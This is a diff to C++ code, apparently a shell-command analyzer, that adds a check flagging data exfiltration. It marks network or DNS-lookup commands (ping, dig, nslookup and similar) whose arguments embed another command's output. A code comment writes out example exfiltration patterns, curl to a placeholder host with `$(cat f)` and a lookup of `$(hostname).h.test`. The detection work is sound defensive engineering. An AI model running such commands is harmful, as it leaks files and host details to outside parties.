@@ -40,6 +40,13 @@ std::optional<model::NetSink> sink_of(const std::string &text) {
     }
     return model::NetSink{host, port};
 }
+// What another command printed stands in this word: `curl http://h/$(cat f)` sends it away, and
+// so does a look-up of `$(hostname).h.test`.
+bool holds_output(const FactWord &word) {
+    return std::any_of(word.parts.begin(), word.parts.end(), [](const model::WordPart &part) {
+        return part.kind == model::WordPartKind::Hole && part.text == "$(..)";
+    });
+}
 } // namespace
 
 model::Command Judge::framed(const Scene &scene, model::Span where) const {
@@ -237,6 +244,11 @@ void Judge::program(const Entry &entry, const Words &argv, Environment &env, Sce
     if (!safe)
         texts(entry, parsed, argv, rows, env, scene, command);
     sinks(entry, parsed, command);
+    const bool resolves = names(entry, {"ping", "ping4", "ping6", "dig", "host", "nslookup",
+                                        "getent", "traceroute", "tracepath", "resolvectl"});
+    if ((resolves || command.has(Effect::Network)) &&
+        std::any_of(argv.begin() + 1, argv.end(), holds_output))
+        effect(command, Effect::Exfil);
 }
 
 void Judge::record_options(const Entry &entry, const Parsed &parsed, model::Command &command) {
